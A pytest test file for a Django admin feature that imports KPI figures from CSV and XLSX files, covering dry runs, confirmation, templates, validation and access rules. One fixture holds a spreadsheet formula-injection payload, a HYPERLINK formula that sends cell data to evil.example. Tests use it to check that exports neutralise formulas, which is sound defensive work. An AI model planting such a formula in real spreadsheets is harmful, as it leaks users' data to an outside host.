"""Spreadsheet import of figures through the admin: dry run, confirmation, and the template.

A file with any bad row writes nothing and offers no confirmation; imported figures arrive as
drafts entered by the official; rows for other departments' indicators count as unknown.
"""

import datetime
import io
import os
import tempfile
from html.parser import HTMLParser

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.utils import timezone, translation
from django.utils.html import escape

from kpis import roles
from kpis.models import Actual
from kpis.resources import ImportUpload
from tests.conftest import make_user

IMPORT_URL = "/admin/kpis/actual/import/"
CONFIRM_URL = "/admin/kpis/actual/process_import/"
TEMPLATE_URL = "/admin/kpis/actual/import-template/"
CSV, XLSX = 0, 1
COLUMNS = ["indicator_code", "period_end", "value", "note", "evidence_url", "confirm"]
MARCH = datetime.date(2024, 3, 31)


class ConfirmFormParser(HTMLParser):
    """Collects the inputs of the form that posts to the confirmation address."""

    def __init__(self):
        super().__init__()
        self.inside = False
        self.found = False
        self.fields = {}

    def handle_starttag(self, tag, attrs):
        attrs = dict(attrs)
        if tag == "form" and (attrs.get("action") or "").endswith("/process_import/"):
            self.inside = self.found = True
        elif tag == "input" and self.inside and attrs.get("name"):
            self.fields[attrs["name"]] = attrs.get("value") or ""

    def handle_endtag(self, tag):
        if tag == "form":
            self.inside = False


def confirm_form(html):
    """The confirmation form's fields as the dry-run page renders them, or None."""
    parser = ConfirmFormParser()
    parser.feed(html)
    return parser.fields if parser.found else None


def report(html):
    """What the dry-run page says below its form: the errors or the preview."""
    return html.rsplit("</form>", 1)[-1]


def shown(message, **values):
    """A message as the (Chinese) admin shows it, translated or not yet."""
    with translation.override("zh-hans"):
        text = str(translation.gettext(message))
    return escape(text % values if values else text)


def csv_file(rows, header=COLUMNS, encoding="utf-8"):
    lines = [",".join(header)] + [",".join(str(cell) for cell in row) for row in rows]
    return ("\n".join(lines) + "\n").encode(encoding)


def xlsx_file(rows, header=COLUMNS):
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append(header)
    for row in rows:
        sheet.append(list(row))
    stream = io.BytesIO()
    book.save(stream)
    return stream.getvalue()


def dry_run(client, content, name="figures.csv", file_format=CSV):
    upload = SimpleUploadedFile(name, content)
    return client.post(IMPORT_URL, {"format": str(file_format), "import_file": upload})


def import_and_confirm(client, content, **kwargs):
    """Upload, then press "confirm import" on the dry-run page; None when it offers none."""
    fields = confirm_form(dry_run(client, content, **kwargs).content.decode())
    if fields is None:
        return None
    return client.post(CONFIRM_URL, fields)


@pytest.fixture(autouse=True)
def own_temp_folder(tmp_path, monkeypatch):
    """Uploads wait in a temp folder of this test's own, not the machine's shared one."""
    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path))


@pytest.fixture
def entry(client, official):
    client.force_login(official)
    return client


@pytest.fixture
def indicator(make_indicator, department):
    return make_indicator(name="脑科学企业", department=department, target="100")


@pytest.fixture
def foreign_indicator(make_indicator, other_department):
    return make_indicator(name="工业投资", department=other_department, target="100")


def test_dry_run_writes_nothing_and_offers_a_confirmation(entry, indicator):
    rows = [
        (indicator.code, "2024-03-31", "40", "", "", ""),
        (indicator.code, "2024-06-30", "42", "", "", ""),
    ]
    response = dry_run(entry, csv_file(rows))
    fields = confirm_form(response.content.decode())
    assert set(fields) >= {"import_file_name", "original_file_name", "format", "resource"}
    assert (fields["original_file_name"], fields["format"]) == ("figures.csv", str(CSV))
    assert not Actual.objects.exists()


def test_confirmed_csv_imports_drafts_entered_by_the_official(entry, official, indicator):
    rows = [
        (indicator.code, "2024-03-31", "40", "季度统计", "https://example.gov.cn/q1", ""),
        (indicator.code, "2024-06-30", "42", "", "", ""),
    ]
    response = import_and_confirm(entry, csv_file(rows))
    imported = Actual.objects.order_by("period_end")
    assert response.status_code == 302
    assert [(a.period_end.isoformat(), a.value) for a in imported] == [
        ("2024-03-31", 40),
        ("2024-06-30", 42),
    ]
    assert {(a.status, a.published_value, a.entered_by) for a in imported} == {
        (Actual.Status.DRAFT, None, official)
    }


def test_gbk_csv_with_chinese_notes_imports(entry, indicator):
    rows = [
        (indicator.code, "2024-03-31", "40", "来自区统计局季度报表", "", ""),
        (indicator.code, "2024-06-30", "42", "含新认定的脑科学企业", "", ""),
    ]
    import_and_confirm(entry, csv_file(rows, encoding="gbk"))
    notes = list(Actual.objects.order_by("period_end").values_list("note", flat=True))
    assert notes == ["来自区统计局季度报表", "含新认定的脑科学企业"]
    assert not Actual.objects.exclude(status=Actual.Status.DRAFT).exists()


def test_xlsx_file_imports(entry, official, indicator):
    rows = [
        (indicator.code, "2024-03-31", 40, "第一季度", "https://example.gov.cn/q1", "no"),
        (indicator.code, "2024-06-30", 42.5, "第二季度", "https://example.gov.cn/q2", "no"),
    ]
    import_and_confirm(entry, xlsx_file(rows), name="figures.xlsx", file_format=XLSX)
    imported = Actual.objects.order_by("period_end")
    assert [(a.period_end.isoformat(), a.value) for a in imported] == [
        ("2024-03-31", 40),
        ("2024-06-30", 42.5),
    ]
    assert {(a.status, a.entered_by) for a in imported} == {(Actual.Status.DRAFT, official)}


def test_xlsx_rows_with_empty_note_and_evidence_cells_import(entry, indicator):
    # Excel leaves unfilled cells empty: they arrive as None, not as "" as in a CSV file.
    rows = [(indicator.code, "2024-03-31", 40, None, None, None)]
    import_and_confirm(entry, xlsx_file(rows), name="figures.xlsx", file_format=XLSX)
    actual = Actual.objects.get()
    assert (actual.value, actual.note, actual.evidence_url) == (40, "", "")


def test_xlsx_period_typed_as_a_date_cell_imports(entry, indicator):
    # Excel turns a typed 2024-03-31 into a date cell, which arrives as a datetime.
    period = datetime.datetime(2024, 3, 31)
    rows = [(indicator.code, period, 40, "第一季度", "https://example.gov.cn/q1", "no")]
    import_and_confirm(entry, xlsx_file(rows), name="figures.xlsx", file_format=XLSX)
    actual = Actual.objects.get()
    assert (actual.period_end, actual.value) == (datetime.date(2024, 3, 31), 40)


@pytest.mark.parametrize(
    ("bad_row", "message"),
    [
        (("2024-05-31", "41"), "Not the last day of a %(frequency)s reporting period."),
        (("2024-06-30", "-5"), "Counts and money cannot be negative."),
    ],
    ids=["not-a-quarter-end", "negative-count"],
)
def test_file_with_one_bad_row_shows_its_error_and_writes_nothing(
    entry, indicator, bad_row, message
):
    rows = [
        (indicator.code, "2024-03-31", "40", "", "", ""),
        (indicator.code, *bad_row, "", "", ""),
    ]
    response = dry_run(entry, csv_file(rows))
    html = response.content.decode()
    with translation.override("zh-hans"):
        frequency = str(indicator.get_frequency_display())
    assert shown(message, frequency=frequency) in report(html)
    assert confirm_form(html) is None
    assert not Actual.objects.exists()


def test_file_with_wrong_headers_names_the_missing_columns_without_a_traceback(entry, indicator):
    content = csv_file([(indicator.code, "2024-03-31", "40")], header=["code", "date", "amount"])
    html = dry_run(entry, content).content.decode()
    assert "“指标代码”, “报告期末”, “数值”" in report(html)
    assert "Traceback" not in html and "site-packages" not in html
    assert confirm_form(html) is None


def test_chinese_headers_are_accepted(entry, indicator):
    header = ["指标代码", "报告期末", "数值", "内部备注", "佐证材料链接", "确认异常数据"]
    rows = [(indicator.code, "2024-03-31", "40", "季度统计", "", "")]
    import_and_confirm(entry, csv_file(rows, header=header))
    actual = Actual.objects.get()
    assert (actual.period_end, actual.value, actual.note) == (MARCH, 40, "季度统计")


def test_same_indicator_and_period_twice_is_refused(entry, indicator):
    rows = [
        (indicator.code, "2024-03-31", "40", "", "", ""),
        (indicator.code, "2024-03-31", "41", "", "", ""),
    ]
    html = dry_run(entry, csv_file(rows)).content.decode()
    assert shown("This file has this indicator and period twice.") in report(html)
    assert confirm_form(html) is None
    assert not Actual.objects.exists()


def test_row_for_another_departments_indicator_is_refused_as_unknown(
    entry, indicator, foreign_indicator, make_actual
):
    theirs = make_actual(foreign_indicator, period_end=datetime.date(2024, 3, 31), value="7")
    rows = [
        (indicator.code, "2024-03-31", "40", "", "", ""),
        (foreign_indicator.code, "2024-03-31", "9999", "", "", ""),
    ]
    html = dry_run(entry, csv_file(rows)).content.decode()
    unknown = "No indicator with code “%(code)s” among your departments' indicators."
    assert shown(unknown, code=foreign_indicator.code) in report(html)
    assert confirm_form(html) is None
    assert list(Actual.objects.values_list("pk", "value")) == [(theirs.pk, 7)]


def test_imported_correction_of_a_published_figure_waits_for_review(
    entry, official, indicator, make_actual
):
    actual = make_actual(indicator, period_end=datetime.date(2024, 3, 31), value="40")
    rows = [(indicator.code, "2024-03-31", "41", "统计局更正", "", "")]
    import_and_confirm(entry, csv_file(rows))
    actual.refresh_from_db()
    assert (actual.value, actual.published_value) == (41, 40)
    assert (actual.status, actual.entered_by) == (Actual.Status.DRAFT, official)


def test_row_for_a_figure_under_review_is_refused(entry, indicator, make_actual):
    actual = make_actual(indicator, value="40", status=Actual.Status.SUBMITTED)
    rows = [(indicator.code, "2024-06-30", "41", "", "", "")]
    html = dry_run(entry, csv_file(rows)).content.decode()
    actual.refresh_from_db()
    assert shown("This figure is under review; it cannot be replaced now.") in report(html)
    assert (actual.value, actual.status) == (40, Actual.Status.SUBMITTED)


@pytest.mark.parametrize(
    ("confirm", "note", "imported"),
    [
        ("", "", False),
        ("", "统计口径调整", False),
        ("yes", "", False),
        ("是", "统计口径调整，已与统计局核实", True),
    ],
    ids=["no-confirm-no-note", "note-only", "confirm-only", "confirmed-and-explained"],
)
def test_figure_a_thousand_times_the_last_published_one_needs_confirm_and_note(
    entry, indicator, make_actual, confirm, note, imported
):
    make_actual(indicator, period_end=datetime.date(2024, 3, 31), value="40")
    rows = [(indicator.code, "2024-06-30", "40000", note, "", confirm)]
    import_and_confirm(entry, csv_file(rows))
    statuses = Actual.objects.filter(period_end=datetime.date(2024, 6, 30)).values_list(
        "status", flat=True
    )
    assert list(statuses) == ([Actual.Status.DRAFT] if imported else [])


def test_refused_unit_slip_explains_itself(entry, indicator, make_actual):
    make_actual(indicator, period_end=datetime.date(2024, 3, 31), value="40")
    rows = [(indicator.code, "2024-06-30", "40000", "", "", "")]
    html = dry_run(entry, csv_file(rows)).content.decode()
    assert "1,000" in report(html)
    assert confirm_form(html) is None


def test_reviewer_cannot_import_figures(client, reviewer, indicator):
    client.force_login(reviewer)
    response = dry_run(client, csv_file([(indicator.code, "2024-03-31", "40", "", "", "")]))
    assert response.status_code == 403
    assert not Actual.objects.exists()


def template_rows(client):
    """The template's sheet, its header and its rows as lists."""
    sheet = openpyxl.load_workbook(io.BytesIO(client.get(TEMPLATE_URL).content)).active
    header, *rows = [list(row) for row in sheet.iter_rows(values_only=True)]
    return sheet, header, rows


def test_template_lists_the_due_periods_of_the_officials_departments_only(
    entry, indicator, foreign_indicator, make_actual
):
    make_actual(indicator, period_end=MARCH, value="40")
    _, header, rows = template_rows(entry)
    periods = {str(row[header.index("报告期末")]) for row in rows}
    assert {row[header.index("指标代码")] for row in rows} == {indicator.code}
    assert "2024-06-30" in periods and "2024-03-31" not in periods


def test_template_names_indicator_unit_and_period_in_chinese(entry, indicator):
    _, header, rows = template_rows(entry)
    columns = ["指标代码", "指标名称", "计量单位", "报告期", "报告期末", "数值", "内部备注"]
    assert header[: len(columns)] == columns
    # Due from 2023, the year before the indicator's first target.
    assert rows[1][:5] == [indicator.code, "脑科学企业", "家", "2023年二季度", "2023-06-30"]


def test_template_is_a_named_sheet_with_a_frozen_header_and_a_confirm_drop_down(entry, indicator):
    sheet, header, rows = template_rows(entry)
    confirm = openpyxl.utils.get_column_letter(header.index("确认异常数据") + 1)
    (choices,) = sheet.data_validations.dataValidation
    assert (sheet.title, sheet.freeze_panes) == ("待填报数据", "A2")
    assert (choices.formula1, f"{confirm}2" in choices.sqref) == ('"是,否"', True)


def test_template_columns_are_wide_enough_for_their_longest_text(entry, make_indicator, department):
    make_indicator(name="在建和运营的重大科技创新载体数量", department=department, target="1")
    sheet, header, _ = template_rows(entry)
    name_column = openpyxl.utils.get_column_letter(header.index("指标名称") + 1)
    # 16 Chinese characters take the room of 32 Latin ones.
    assert sheet.column_dimensions[name_column].width >= 32


def test_filled_in_template_imports(entry, official, indicator):
    _, header, (first, *_) = template_rows(entry)
    first[header.index("数值")] = 40
    content = xlsx_file([first], header=header)
    import_and_confirm(entry, content, name="figures-due.xlsx", file_format=XLSX)
    actual = Actual.objects.get()
    # The first period due: from 2023, the year before the indicator's first target.
    assert (actual.indicator, actual.period_end.isoformat()) == (indicator, "2023-03-31")
    assert (actual.value, actual.status, actual.entered_by) == (40, "draft", official)


def test_template_with_two_of_66_due_rows_filled_imports_two_drafts_and_skips_64(
    entry, official, make_indicator, department, monkeypatch
):
    monkeypatch.setattr(timezone, "localdate", lambda *args: datetime.date(2024, 7, 20))
    for number in range(11):  # quarterly from 2023: six periods due each by July 2024
        make_indicator(name=f"脑科学指标{number}", department=department, target="100")
    _, header, rows = template_rows(entry)
    for row, value in zip(rows[:2], (40, 42), strict=True):
        row[header.index("数值")] = value
    content = xlsx_file(rows, header=header)
    preview = dry_run(entry, content, name="figures-due.xlsx", file_format=XLSX)
    response = import_and_confirm(entry, content, name="figures-due.xlsx", file_format=XLSX)
    assert len(rows) == 66 and "64行未填写，已跳过。" in report(preview.content.decode())
    assert "64行未填写，已跳过。" in entry.get(response.url).content.decode()
    assert list(Actual.objects.values_list("status", "entered_by")) == [("draft", official.pk)] * 2


def test_preview_names_each_indicator_and_says_what_happens(entry, indicator, make_actual):
    make_actual(indicator, period_end=MARCH, value="40")
    rows = [
        (indicator.code, "2024-03-31", "41", "统计局更正", "", ""),
        (indicator.code, "2024-06-30", "42", "", "", ""),
    ]
    preview = report(dry_run(entry, csv_file(rows)).content.decode())
    assert "<td>脑科学企业</td>" in preview and "<td>2024年二季度：42家</td>" in preview
    assert "修改已发布数据：成为修订" in preview and "新建草稿" in preview


def test_errors_give_the_spreadsheets_own_row_number_and_column(entry, indicator):
    rows = [
        (indicator.code, "2024-03-31", "40", "", "", ""),
        (indicator.code, "2024-06-30", "-5", "", "", ""),
    ]
    html = report(dry_run(entry, csv_file(rows)).content.decode())
    # The heading is row 1, so the second figure is on the sheet's row 3.
    assert f"<tr><td>3</td><td>数值</td><td>{shown('Counts and money cannot be negative.')}" in html


def test_errors_of_an_xlsx_row_with_empty_cells_show_no_none(entry, indicator):
    rows = [(indicator.code, "2024-05-31", 40, None, None, None)]
    html = report(dry_run(entry, xlsx_file(rows), "f.xlsx", XLSX).content.decode())
    assert "报告期末" in html and "None" not in html


def test_error_heading_is_not_django_import_exports_garbled_chinese(entry, indicator):
    rows = [(indicator.code, "2024-05-31", "40", "", "", "")]
    html = dry_run(entry, csv_file(rows)).content.decode()
    assert "某些行验数据证失败" not in html
    assert "部分行未通过校验" in html


@pytest.mark.parametrize("word", ["NaN", "Infinity", "-inf", "四十"])
def test_a_word_in_the_value_column_is_refused_as_not_a_figure(entry, indicator, word):
    rows = [(indicator.code, "2024-03-31", word, "", "", "")]
    html = report(dry_run(entry, csv_file(rows)).content.decode())
    assert shown("“%(value)s” is not a figure: write it in digits, e.g. 42.5.", value=word) in html
    assert "InvalidOperation" not in html


def test_a_row_with_a_note_but_no_value_is_refused_not_skipped(entry, indicator):
    rows = [(indicator.code, "2024-03-31", "", "数据尚未出来", "", "")]
    html = dry_run(entry, csv_file(rows)).content.decode()
    assert shown("Fill in the figure, or leave the row's other cells empty.") in report(html)
    assert confirm_form(html) is None


@pytest.mark.parametrize(("make_file", "file_format"), [(csv_file, CSV), (xlsx_file, XLSX)])
def test_file_with_more_rows_than_the_limit_is_refused(
    entry, indicator, settings, make_file, file_format
):
    settings.IMPORT_MAX_ROWS = 2
    rows = [
        (indicator.code, f"2024-{end}", "40", "", "", "") for end in ("03-31", "06-30", "09-30")
    ]
    html = dry_run(entry, make_file(rows), "f", file_format).content.decode()
    limit = (
        "The file has more than %(limit)d rows, the most one import takes. "
        "Split it into smaller files."
    )
    assert shown(limit, limit=2) in report(html)
    assert confirm_form(html) is None


def test_empty_rows_below_the_last_filled_one_do_not_count_against_the_limit(
    entry, indicator, settings
):
    settings.IMPORT_MAX_ROWS = 2
    rows = [(indicator.code, "2024-03-31", 40, None, None, None)] + [(None,) * 6] * 5
    import_and_confirm(entry, xlsx_file(rows), name="f.xlsx", file_format=XLSX)
    assert Actual.objects.count() == 1


def test_file_larger_than_the_limit_is_refused_before_it_is_read(entry, indicator, settings):
    settings.IMPORT_MAX_BYTES = 100
    rows = [(indicator.code, "2024-03-31", "40", "备注" * 40, "", "")]
    html = dry_run(entry, csv_file(rows)).content.decode()
    assert "每次最多可导入100\xa0字节" in html
    assert confirm_form(html) is None


def test_figure_changed_after_the_dry_run_is_refused_and_nothing_is_imported(
    entry, indicator, make_actual
):
    actual = make_actual(indicator, period_end=MARCH, value="40", status=Actual.Status.DRAFT)
    rows = [
        (indicator.code, "2024-03-31", "41", "", "", ""),
        (indicator.code, "2024-06-30", "42", "", "", ""),
    ]
    fields = confirm_form(dry_run(entry, csv_file(rows)).content.decode())
    colleagues_copy = Actual.objects.get(pk=actual.pk)
    colleagues_copy.value = 45
    colleagues_copy.save_edit()
    html = entry.post(CONFIRM_URL, fields).content.decode()
    message = (
        "Someone changed this figure after your dry run. Nothing was imported: "
        "upload the file again to see the figure as it is now."
    )
    assert shown(message) in report(html)
    assert list(Actual.objects.values_list("period_end", "value")) == [(MARCH, 45)]


def test_figure_entered_by_someone_else_after_the_dry_run_is_not_overwritten(
    entry, indicator, make_actual
):
    rows = [(indicator.code, "2024-03-31", "41", "", "", "")]
    fields = confirm_form(dry_run(entry, csv_file(rows)).content.decode())
    make_actual(indicator, period_end=MARCH, value="45", status=Actual.Status.DRAFT)
    entry.post(CONFIRM_URL, fields)
    assert list(Actual.objects.values_list("value", flat=True)) == [45]


def test_confirmation_cannot_read_or_remove_any_other_file(entry, indicator):
    with tempfile.NamedTemporaryFile("w", suffix=".csv", delete=False) as other:
        other.write(csv_file([(indicator.code, "2024-03-31", "40", "", "", "")]).decode())
    fields = {"import_file_name": os.path.basename(other.name), "format": str(CSV)}
    response = entry.post(CONFIRM_URL, {**fields, "original_file_name": "x.csv", "resource": ""})
    assert os.path.exists(other.name) and not Actual.objects.exists()
    os.remove(other.name)
    assert shown("This import has expired. Upload the file again.") in (
        entry.get(response.url).content.decode()
    )


def test_an_officials_dry_run_cannot_be_confirmed_by_a_colleague(entry, department, indicator):
    rows = [(indicator.code, "2024-03-31", "40", "", "", "")]
    fields = confirm_form(dry_run(entry, csv_file(rows)).content.decode())
    colleague = make_user("colleague", roles.DATA_ENTRY)
    department.members.add(colleague)
    other = Client()
    other.force_login(colleague)
    other.post(CONFIRM_URL, fields)
    assert not Actual.objects.exists()


def test_a_dry_run_confirmed_twice_imports_once_and_then_says_it_expired(entry, indicator):
    rows = [(indicator.code, "2024-03-31", "40", "", "", "")]
    fields = confirm_form(dry_run(entry, csv_file(rows)).content.decode())
    entry.post(CONFIRM_URL, fields)
    again = entry.post(CONFIRM_URL, fields, follow=True).content.decode()
    assert Actual.objects.count() == 1
    assert shown("This import has expired. Upload the file again.") in again


def test_template_words_a_year_to_date_indicators_periods_as_the_months_it_sums(
    entry, make_indicator, department
):
    make_indicator(department=department, target="100", reported_as="year_to_date")
    _, header, rows = template_rows(entry)
    assert rows[1][header.index("报告期")] == "2023年1–6月累计"


FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"x")'
EXPORT_FIELDS = ["indicator", "indicator_name", "unit", "period", "period_end", "value"]
EXPORT_FIELDS += ["note", "evidence_url", "status"]


def admin_export(client, file_format):
    fields = {f"actualresource_{name}": "on" for name in EXPORT_FIELDS}
    data = {"format": str(file_format), "resource": "0", **fields}
    return client.post("/admin/kpis/actual/export/", data).content


@pytest.fixture
def formula_figure(make_indicator, department, make_actual):
    indicator = make_indicator(name="=1+1", department=department, target="100")
    return make_actual(indicator, period_end=MARCH, value="40", note=FORMULA)


def test_admin_csv_export_writes_formulas_as_plain_text(client, admin_user, formula_figure):
    client.force_login(admin_user)
    lines = admin_export(client, CSV).decode("utf-8-sig").splitlines()
    assert lines[0].startswith("指标代码,指标名称,计量单位,报告期,报告期末,数值,内部备注")
    assert ",'=1+1," in lines[1] and ",\"'=HYPERLINK(" in lines[1]


def test_admin_xlsx_export_writes_formulas_as_plain_text(client, admin_user, formula_figure):
    client.force_login(admin_user)
    sheet = openpyxl.load_workbook(io.BytesIO(admin_export(client, XLSX))).active
    header, row = list(sheet.iter_rows(min_row=1, max_row=2))
    cells = {title.value: cell for title, cell in zip(header, row, strict=True)}
    assert (cells["指标名称"].value, cells["内部备注"].value) == ("'=1+1", "'" + FORMULA)
    assert {cells["指标名称"].data_type, cells["内部备注"].data_type} == {"s"}


def test_template_writes_an_indicator_name_that_looks_like_a_formula_as_text(
    entry, make_indicator, department
):
    make_indicator(name="=1+1", department=department, target="100")
    sheet, header, rows = template_rows(entry)
    assert rows[0][header.index("指标名称")] == "'=1+1"
    assert sheet.cell(row=2, column=header.index("指标名称") + 1).data_type == "s"


def test_uploads_of_dry_runs_never_confirmed_are_removed_after_a_day(entry, indicator):
    rows = [(indicator.code, "2024-03-31", "40", "", "", "")]
    dry_run(entry, csv_file(rows))
    abandoned = [entry.path for entry in os.scandir(ImportUpload.folder())]
    for path in abandoned:
        os.utime(path, (0, 0))
    dry_run(entry, csv_file(rows))
    assert abandoned and not any(os.path.exists(path) for path in abandoned)


def test_import_page_lists_the_columns_by_their_chinese_headings(entry):
    html = entry.get(IMPORT_URL).content.decode()
    assert "<code>指标代码, 指标名称, 计量单位, 报告期, 报告期末, 数值, 内部备注" in html
    assert "indicator_code" not in html


def test_reviewer_cannot_confirm_an_import(entry, reviewer, indicator):
    rows = [(indicator.code, "2024-03-31", "40", "", "", "")]
    fields = confirm_form(dry_run(entry, csv_file(rows)).content.decode())
    reviewers = Client()
    reviewers.force_login(reviewer)
    assert reviewers.post(CONFIRM_URL, fields).status_code == 403
    assert not Actual.objects.exists()


def test_a_file_that_is_not_a_spreadsheet_is_refused_with_a_message(entry):
    html = dry_run(entry, b"not a workbook", name="figures.xlsx", file_format=XLSX)
    message = (
        "The file could not be read: check that the format chosen (CSV or XLSX) is the file's."
    )
    assert shown(message) in html.content.decode()
    assert "BadZipFile" not in html.content.decode()
